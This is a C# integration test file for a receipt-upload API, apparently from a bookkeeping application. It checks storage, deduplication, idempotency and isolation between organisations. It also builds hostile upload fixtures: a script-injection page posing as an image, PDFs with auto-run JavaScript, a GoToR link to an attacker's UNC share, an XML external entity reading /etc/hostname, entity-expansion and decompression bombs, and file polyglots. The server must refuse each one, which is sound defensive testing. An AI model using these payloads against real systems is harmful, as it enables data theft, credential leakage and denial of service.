using System.Buffers.Binary;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using CleanLedger.Api.Tests.Support;
using CleanLedger.Testing;

namespace CleanLedger.Api.Tests.Documents;

/// <summary>Uploading receipts over HTTP: accepted once, refused with a reason, never crossing organisations. Both engines.</summary>
public abstract class DocumentUploadTests<TFactory>(TFactory factory) : OwnerApiTest<TFactory>(factory)
    where TFactory : ApiFactory
{
    [Fact]
    public async Task Real_receipts_of_every_accepted_kind_are_stored_and_read_back_byte_for_byte()
    {
        var samples = SharedData.SwedishReceipts("jpg").Take(3).Concat(SharedData.SwedishReceipts("png").Take(2)).Concat(SharedData.SwedishReceipts("pdf").Take(2));
        foreach (var path in samples)
        {
            var bytes = await File.ReadAllBytesAsync(path);

            var response = await Client.UploadAsync(OrgId, bytes, Path.GetFileName(path));

            response.StatusCode.ShouldBe(HttpStatusCode.Accepted, path);
            var uploaded = await response.Content.ReadFromJsonAsync<JsonElement>();
            uploaded.GetProperty("sha256").GetString().ShouldBe(Convert.ToHexStringLower(SHA256.HashData(bytes)));
            uploaded.GetProperty("status").GetString().ShouldBe("received");
            uploaded.GetProperty("duplicateOf").ValueKind.ShouldBe(JsonValueKind.Null);
            var id = uploaded.GetProperty("id").GetGuid();
            (await Client.GetByteArrayAsync($"/api/v1/orgs/{OrgId}/documents/{id}/file")).ShouldBe(bytes);
            var document = await Client.GetFromJsonAsync<JsonElement>($"/api/v1/orgs/{OrgId}/documents/{id}");
            document.GetProperty("fileName").GetString().ShouldBe(Path.GetFileName(path));
            document.GetProperty("contentType").GetString().ShouldBe(Path.GetExtension(path) switch { ".pdf" => "application/pdf", ".png" => "image/png", _ => "image/jpeg" });
        }

        (await Client.GetFromJsonAsync<JsonElement>($"/api/v1/orgs/{OrgId}/documents")).GetProperty("total").GetInt64().ShouldBe(7);
    }

    [Fact]
    public async Task The_same_bytes_again_return_the_existing_document_and_store_nothing_new()
    {
        var bytes = await File.ReadAllBytesAsync(SharedData.SwedishReceipt("receipt_0001.jpg"));
        var first = await (await Client.UploadAsync(OrgId, bytes, "kvitto.jpg")).Content.ReadFromJsonAsync<JsonElement>();
        var storedFiles = StoredFileCount();

        var again = await Client.UploadAsync(OrgId, bytes, "samma-kvitto.jpg");

        again.StatusCode.ShouldBe(HttpStatusCode.Accepted);
        var body = await again.Content.ReadFromJsonAsync<JsonElement>();
        body.GetProperty("id").GetGuid().ShouldBe(first.GetProperty("id").GetGuid());
        body.GetProperty("duplicateOf").GetGuid().ShouldBe(first.GetProperty("id").GetGuid());
        (await Client.GetFromJsonAsync<JsonElement>($"/api/v1/orgs/{OrgId}/documents")).GetProperty("total").GetInt64().ShouldBe(1);
        StoredFileCount().ShouldBe(storedFiles);
    }

    [Fact]
    public async Task Two_organisations_uploading_the_same_bytes_get_two_documents_and_cannot_read_each_others()
    {
        var bytes = await File.ReadAllBytesAsync(SharedData.SwedishReceipt("receipt_0002.jpg"));
        var other = Factory.ClientFor(TestUser.New("Otto Other"));
        var otherOrg = await other.CreateOrganizationAsync();

        var mine = await (await Client.UploadAsync(OrgId, bytes, "a.jpg")).Content.ReadFromJsonAsync<JsonElement>();
        var theirs = await (await other.UploadAsync(otherOrg, bytes, "a.jpg")).Content.ReadFromJsonAsync<JsonElement>();

        theirs.GetProperty("id").GetGuid().ShouldNotBe(mine.GetProperty("id").GetGuid());
        theirs.GetProperty("duplicateOf").ValueKind.ShouldBe(JsonValueKind.Null);
        var myId = mine.GetProperty("id").GetGuid();
        await (await other.GetAsync($"/api/v1/orgs/{OrgId}/documents/{myId}/file")).ShouldBeProblemAsync(HttpStatusCode.NotFound);
        await (await other.GetAsync($"/api/v1/orgs/{otherOrg}/documents/{myId}/file")).ShouldBeProblemAsync(HttpStatusCode.NotFound);
        await (await other.GetAsync($"/api/v1/orgs/{otherOrg}/documents/{myId}")).ShouldBeProblemAsync(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task A_replayed_idempotency_key_returns_the_first_answer_and_another_body_with_it_is_422()
    {
        var bytes = await File.ReadAllBytesAsync(SharedData.SwedishReceipt("receipt_0003.jpg"));
        var first = await Client.UploadAsync(OrgId, bytes, "k.jpg", idempotencyKey: "offline-queue-7");
        var firstBody = await first.Content.ReadAsStringAsync();

        var replay = await Client.UploadAsync(OrgId, bytes, "k.jpg", idempotencyKey: "offline-queue-7");

        (replay.StatusCode, await replay.Content.ReadAsStringAsync()).ShouldBe((first.StatusCode, firstBody));
        var otherBody = await File.ReadAllBytesAsync(SharedData.SwedishReceipt("receipt_0004.jpg"));
        var misuse = await (await Client.UploadAsync(OrgId, otherBody, "k.jpg", idempotencyKey: "offline-queue-7")).ShouldBeProblemAsync(HttpStatusCode.UnprocessableEntity);
        misuse.GetProperty("code").GetString().ShouldBe("idempotency.key_reused");
        (await Client.GetFromJsonAsync<JsonElement>($"/api/v1/orgs/{OrgId}/documents")).GetProperty("total").GetInt64().ShouldBe(1);
    }

    [Fact]
    public async Task Twenty_parallel_uploads_with_one_key_create_one_document_and_twenty_identical_answers()
    {
        var bytes = await File.ReadAllBytesAsync(SharedData.SwedishReceipt("receipt_0005.jpg"));

        var answers = await Task.WhenAll(Enumerable.Range(0, 20).Select(async _ =>
        {
            var response = await Client.UploadAsync(OrgId, bytes, "parallel.jpg", idempotencyKey: "burst-1");
            return (response.StatusCode, Body: await response.Content.ReadAsStringAsync());
        }));

        answers.Select(answer => answer.StatusCode).Distinct().ShouldBe([HttpStatusCode.Accepted]);
        answers.Select(answer => answer.Body).Distinct().Count().ShouldBe(1);
        (await Client.GetFromJsonAsync<JsonElement>($"/api/v1/orgs/{OrgId}/documents")).GetProperty("total").GetInt64().ShouldBe(1);
    }

    [Fact]
    public async Task A_replayed_refusal_is_the_same_refusal()
    {
        var first = await Client.UploadAsync(OrgId, [], "empty.jpg", idempotencyKey: "empty-1");
        var replay = await Client.UploadAsync(OrgId, [], "empty.jpg", idempotencyKey: "empty-1");

        (await first.ShouldBeProblemAsync(HttpStatusCode.UnprocessableEntity)).GetProperty("code").GetString().ShouldBe("file.empty");
        (await replay.ShouldBeProblemAsync(HttpStatusCode.UnprocessableEntity)).GetProperty("code").GetString().ShouldBe("file.empty");
    }

    [Theory]
    [MemberData(nameof(HostileFiles.Hostile), MemberType = typeof(HostileFiles))]
    public async Task Hostile_or_broken_files_are_refused_with_a_reason_and_nothing_is_stored(
        string sample, string fileName, string? declaredType, HttpStatusCode status, string code)
    {
        var storedFiles = StoredFileCount();

        var response = await Client.UploadAsync(OrgId, HostileFiles.Bytes(sample), fileName, declaredType: declaredType);

        (await response.ShouldBeProblemAsync(status)).GetProperty("code").GetString().ShouldBe(code);
        (await Client.GetFromJsonAsync<JsonElement>($"/api/v1/orgs/{OrgId}/documents")).GetProperty("total").GetInt64().ShouldBe(0);
        StoredFileCount().ShouldBe(storedFiles);
        var audit = await Client.GetFromJsonAsync<JsonElement>($"/api/v1/orgs/{OrgId}/audit-events");
        audit.EnumerateArray().Where(e => e.GetProperty("action").GetString() == "document.rejected")
            .Select(e => JsonDocument.Parse(e.GetProperty("details").GetString()!).RootElement.GetProperty("reason").GetString())
            .ShouldContain(code);
    }

    [Fact]
    public async Task A_file_over_the_size_cap_answers_413()
    {
        var bytes = new byte[21 * 1024 * 1024];
        File.ReadAllBytes(SharedData.SwedishReceipt("receipt_0001.jpg")).CopyTo(bytes, 0);

        var response = await Client.UploadAsync(OrgId, bytes, "huge.jpg");

        (await response.ShouldBeProblemAsync(HttpStatusCode.RequestEntityTooLarge)).GetProperty("code").GetString().ShouldBe("file.too_large");
        var audit = await Client.GetFromJsonAsync<JsonElement>($"/api/v1/orgs/{OrgId}/audit-events");
        var rejected = audit.EnumerateArray().Single(e => e.GetProperty("action").GetString() == "document.rejected");
        JsonDocument.Parse(rejected.GetProperty("details").GetString()!).RootElement.GetProperty("fileName").GetString().ShouldBe("huge.jpg");
    }

    [Fact]
    public async Task A_viewer_cannot_upload()
    {
        var viewer = TestUser.New("Vera Viewer");
        await Client.PutAsJsonAsync($"/api/v1/orgs/{OrgId}/members/{viewer.Id}", new { role = "viewer" });

        var response = await Factory.ClientFor(viewer).UploadAsync(OrgId, await File.ReadAllBytesAsync(SharedData.SwedishReceipt("receipt_0001.jpg")), "v.jpg");

        await response.ShouldBeProblemAsync(HttpStatusCode.Forbidden);
    }

    // The store outlives resets (it never deletes), so tests compare counts, not emptiness.
    private int StoredFileCount() => Directory.EnumerateFiles(Factory.Database.DocumentsFolder, "*", SearchOption.AllDirectories).Count();
}

public sealed class DocumentUploadTestsOnPostgres(PostgresApiFactory factory) : DocumentUploadTests<PostgresApiFactory>(factory);

public sealed class DocumentUploadTestsOnSqlite(SqliteApiFactory factory) : DocumentUploadTests<SqliteApiFactory>(factory);

/// <summary>Files an attacker or a broken phone might send, each with the refusal it must get.</summary>
public static class HostileFiles
{
    public static TheoryData<string, string, string?, HttpStatusCode, string> Hostile() =>
        new()
        {
            { "empty", "kvitto.jpg", null, HttpStatusCode.UnprocessableEntity, "file.empty" },
            { "truncated-jpeg", "kvitto.jpg", "image/jpeg", HttpStatusCode.UnprocessableEntity, "image.truncated" },
            { "elf-as-pdf", "kvitto.pdf", "application/pdf", HttpStatusCode.UnsupportedMediaType, "type.unsupported" },
            { "html-as-png", "kvitto.png", "image/png", HttpStatusCode.UnsupportedMediaType, "type.unsupported" },
            { "jpeg-declared-png", "kvitto.png", "image/png", HttpStatusCode.UnsupportedMediaType, "type.mismatch" },
            { "png-bomb", "bomb.png", "image/png", HttpStatusCode.UnprocessableEntity, "image.too_large" },
            { "pdf-zip-polyglot", "kvitto.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "file.polyglot" },
            { "truncated-pdf", "kvitto.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.truncated" },
            { "tiny-tiff", "kvitto.tif", "image/tiff", HttpStatusCode.UnprocessableEntity, "image.corrupt" },
            { "pdf-javascript", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
            { "pdf-javascript-in-object-stream", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
            { "pdf-encrypted", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.encrypted" },
            { "pdf-21-pages", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.too_many_pages" },
            { "jpeg-zip-polyglot-ending-in-eoi", "kvitto.jpg", "image/jpeg", HttpStatusCode.UnprocessableEntity, "file.polyglot" },
            { "tiff-size-listed-twice", "kvitto.tif", "image/tiff", HttpStatusCode.UnprocessableEntity, "image.contradictory" },
            { "pdf-huge-page", "kvitto.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.page_too_large" },
            { "pdf-deflate-bomb", "kvitto.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.too_complex" },
            { "pdf-gotor-unc", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
            { "pdf-uri-javascript", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
            { "pdf-rendition", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
            { "ubl-external-entity", "faktura.xml", "application/xml", HttpStatusCode.UnprocessableEntity, "einvoice.dtd_refused" },
            { "ubl-entity-expansion", "faktura.xml", null, HttpStatusCode.UnprocessableEntity, "einvoice.dtd_refused" },
            { "ubl-vat-not-adding-up", "faktura.xml", "text/xml", HttpStatusCode.UnprocessableEntity, "einvoice.BR-CO-15" },
            { "ubl-lines-not-adding-up", "faktura.xml", "application/xml", HttpStatusCode.UnprocessableEntity, "einvoice.BR-CO-10" },
            { "ubl-malformed", "faktura.xml", "application/xml", HttpStatusCode.UnprocessableEntity, "einvoice.malformed" },
            { "xml-not-an-invoice", "faktura.xml", "application/xml", HttpStatusCode.UnsupportedMediaType, "type.unsupported" },
        };

    public static byte[] Bytes(string sample)
    {
        var receipt = File.ReadAllBytes(SharedData.SwedishReceipt("receipt_0001.jpg"));
        var pdf = File.ReadAllBytes(SharedData.SwedishReceipts("pdf").First());
        return sample switch
        {
            "empty" => [],
            "truncated-jpeg" => receipt[..(receipt.Length / 2)],
            "elf-as-pdf" => [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, .. new byte[120]],
            "html-as-png" => Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
            "jpeg-declared-png" => receipt,
            "png-bomb" => PngClaiming(100_000, 100_000),
            "pdf-zip-polyglot" => [.. pdf, .. ZipOf("payload.txt", "not a receipt")],
            "truncated-pdf" => pdf[..(pdf.Length - 2048)],
            "tiny-tiff" => [(byte)'I', (byte)'I', (byte)'*', 0, 0xFF],
            "pdf-javascript" => JavaScriptPdf(),
            "pdf-javascript-in-object-stream" => Qpdf(JavaScriptPdf(), "--object-streams=generate"),
            "pdf-encrypted" => Qpdf(pdf, "--encrypt", "user", "owner", "256", "--"),
            "pdf-21-pages" => Qpdf(pdf, ["--empty", "--pages", .. Enumerable.Repeat("{in}", 21), "--"]),
            "jpeg-zip-polyglot-ending-in-eoi" => [.. receipt, .. ZipOf("payload.txt", "not a receipt"), 0xFF, 0xD9],
            "tiff-size-listed-twice" => HostileImages.Tiff((12_000, 12_000), (100, 100)),
            "pdf-huge-page" => HostilePdf.OnePage("/MediaBox [0 0 14400 14400]"),
            "pdf-deflate-bomb" => HostilePdf.ContentStreamBomb(400L * 1024 * 1024),
            "pdf-gotor-unc" => HostilePdf.OnePage("/MediaBox [0 0 200 200]", "/OpenAction 4 0 R", @"<< /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>"),
            "pdf-uri-javascript" => HostilePdf.OnePage("/MediaBox [0 0 200 200]", "/OpenAction 4 0 R", @"<< /S /URI /URI (javascript:app.alert\(1\)) >>"),
            "pdf-rendition" => HostilePdf.OnePage("/MediaBox [0 0 200 200]", "/OpenAction 4 0 R", "<< /S /Rendition /OP 0 >>"),
            // The entity names a file every host has: were it read, the supplier's name would carry it.
            "ubl-external-entity" => UblInvoices.WithExternalEntity("file:///etc/hostname").Bytes(),
            "ubl-entity-expansion" => (UblInvoices.Valid with { Prolog = "<!DOCTYPE Invoice [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>", SupplierMarkup = "&b;" }).Bytes(),
            "ubl-vat-not-adding-up" => (UblInvoices.Valid with { TaxInclusiveOre = 2_000_00, PayableOre = 2_000_00 }).Bytes(),
            "ubl-lines-not-adding-up" => (UblInvoices.Valid with { LineExtensionOre = 1_000_00, TaxExclusiveOre = 1_000_00 }).Bytes(),
            "ubl-malformed" => UblInvoices.Valid.Bytes()[..^20],
            "xml-not-an-invoice" => Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><Order xmlns=\"urn:oasis:names:specification:ubl:schema:xsd:Order-2\"/>"),
            _ => throw new ArgumentOutOfRangeException(nameof(sample)),
        };
    }

    // A valid PNG signature and IHDR claiming the given size, and nothing worth decoding.
    private static byte[] PngClaiming(int width, int height)
    {
        var png = new byte[8 + 25 + 12];
        new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A }.CopyTo(png, 0);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(8), 13);
        "IHDR"u8.CopyTo(png.AsSpan(12));
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(16), (uint)width);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(20), (uint)height);
        png[24] = 8;
        png[25] = 2;
        new byte[] { 0, 0, 0, 0, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82 }.CopyTo(png, png.Length - 12);
        return png;
    }

    // A one-page PDF that runs JavaScript when opened (offsets left for qpdf to repair).
    private static byte[] JavaScriptPdf() => Encoding.ASCII.GetBytes(
        """
        %PDF-1.7
        1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj
        2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
        3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
        4 0 obj << /S /JavaScript /JS (app.alert\(1\)) >> endobj
        trailer << /Size 5 /Root 1 0 R >>
        %%EOF
        """);

    /// <summary>Runs qpdf on <paramref name="pdf"/> ("{in}" in the arguments stands for it) and returns the output file.</summary>
    private static byte[] Qpdf(byte[] pdf, params string[] arguments)
    {
        var folder = Directory.CreateTempSubdirectory("cleanledger-qpdf-").FullName;
        var input = Path.Combine(folder, "in.pdf");
        var output = Path.Combine(folder, "out.pdf");
        File.WriteAllBytes(input, pdf);
        var start = new System.Diagnostics.ProcessStartInfo("qpdf") { RedirectStandardError = true, RedirectStandardOutput = true };
        var inputNamed = false;
        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument == "{in}" ? input : argument);
            inputNamed |= argument == "{in}";
        }

        if (!inputNamed)
            start.ArgumentList.Insert(0, input);
        start.ArgumentList.Add(output);
        using (var process = System.Diagnostics.Process.Start(start)!)
        {
            process.WaitForExit();
            process.ExitCode.ShouldBeOneOf(0, 3);
        }

        var bytes = File.ReadAllBytes(output);
        Directory.Delete(folder, recursive: true);
        return bytes;
    }

    private static byte[] ZipOf(string name, string content)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        using (var writer = new StreamWriter(zip.CreateEntry(name).Open()))
            writer.Write(content);
        return buffer.ToArray();
    }
}
